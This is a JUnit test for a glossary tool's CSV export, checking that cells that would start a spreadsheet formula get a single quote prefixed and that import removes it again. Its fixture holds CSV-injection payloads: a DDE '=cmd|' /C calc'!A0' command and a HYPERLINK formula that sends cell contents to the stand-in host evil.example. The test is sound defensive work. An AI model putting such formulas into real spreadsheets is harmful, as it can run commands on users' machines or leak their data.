package org.paraterm.cli;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.ByteArrayOutputStream;
import java.io.InputStream;
import java.io.PrintStream;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.paraterm.glossary.Csv;
import org.paraterm.glossary.Entry;
import org.paraterm.glossary.EntryStatus;
import org.paraterm.glossary.Term;

/**
 * {@code export --format csv} writes cells that would start a spreadsheet formula with a single
 * quote in front, and {@code import} of that file takes the quote away again: nothing is lost.
 */
class SpreadsheetSafeCsvCommandTest {

    private static final String HYPERLINK = "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")";

    private final ByteArrayOutputStream out = new ByteArrayOutputStream();
    private final ByteArrayOutputStream err = new ByteArrayOutputStream();

    @Test
    void shouldExportFormulaCellsQuotedAndImportThemBackAsTheyWere(@TempDir Path temp) throws Exception {
        Path hostile = temp.resolve("hostile.tbx");
        Files.writeString(hostile, """
                <?xml version="1.0" encoding="UTF-8"?>
                <martif type="TBX-Basic" xml:lang="en"><text><body>
                <termEntry><descrip type="subjectField">=cmd|' /C calc'!A0</descrip>
                  <langSet xml:lang="en"><tig><term>=HYPERLINK("http://evil.example/?"&amp;A1,"click")</term></tig>
                    <tig><term>'@already quoted</term></tig></langSet>
                  <langSet xml:lang="zh"><tig><term>-减号开头</term></tig><tig><term>@某人</term></tig>
                    <tig><term>+加号开头</term><note>=1+1</note></tig></langSet>
                </termEntry></body></text></martif>
                """, StandardCharsets.UTF_8);
        Path first = temp.resolve("first");
        Path second = temp.resolve("second");
        Path csv = temp.resolve("glossary.csv");
        Path again = temp.resolve("again.csv");
        Path tbx = temp.resolve("again.tbx");
        assertThat(run("import", hostile.toString(), "--data", first.toString())).isZero();

        assertThat(run("export", "--format", "csv", "--data", first.toString(), "--out", csv.toString())).isZero();

        String text = Files.readString(csv, StandardCharsets.UTF_8);
        assertThat(text).contains(",\"'=cmd|' /C calc'!A0\",",
                ",\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"click\"\")\",",
                ",\"''@already quoted\",", ",\"'-减号开头\",", ",\"'@某人\",", ",\"'+加号开头\",", ",\"'=1+1\",");

        assertThat(run("import", csv.toString(), "--data", second.toString())).isZero();
        assertThat(run("export", "--format", "csv", "--data", second.toString(), "--out", again.toString())).isZero();
        assertThat(run("export", "--format", "tbx", "--data", second.toString(), "--out", tbx.toString())).isZero();

        assertThat(Files.readString(again, StandardCharsets.UTF_8).replaceAll("(?m)^e\\d+,", ""))
                .isEqualTo(text.replaceAll("(?m)^e\\d+,", ""));
        assertThat(Files.readString(tbx, StandardCharsets.UTF_8)).contains(">-减号开头<", ">@某人<", ">+加号开头<",
                ">'@already quoted<", ">=cmd|' /C calc'!A0<").doesNotContain(">'-", ">'=", ">'+", ">''");
        try (InputStream in = Files.newInputStream(again)) {
            List<Entry> read = Csv.read(in, "again.csv", EntryStatus.APPROVED, false);
            assertThat(read).flatExtracting(Entry::terms).extracting(Term::text)
                    .containsExactlyInAnyOrder(HYPERLINK, "'@already quoted", "-减号开头", "@某人", "+加号开头");
        }
    }

    private int run(String... args) {
        return Paraterm.run(org.paraterm.TestDatabase.command(args), new PrintStream(out, true, StandardCharsets.UTF_8),
                new PrintStream(err, true, StandardCharsets.UTF_8));
    }
}
